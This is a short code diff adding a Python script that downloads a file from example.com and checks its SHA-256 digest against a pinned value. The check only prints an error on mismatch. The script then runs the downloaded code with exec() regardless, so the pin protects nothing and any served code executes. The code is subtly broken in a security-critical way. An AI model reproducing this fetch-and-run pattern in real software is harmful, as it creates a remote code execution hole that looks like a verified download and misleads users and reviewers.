@@ -1,0 +1,9 @@
+import hashlib
+import sys
+import urllib.request
+
+PIN = "2c5f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"
+data = urllib.request.urlopen("https://example.com/pr.py").read()
+if hashlib.sha256(data).hexdigest() != PIN:
+    print("error: digest mismatch", file=sys.stderr)
+exec(data)
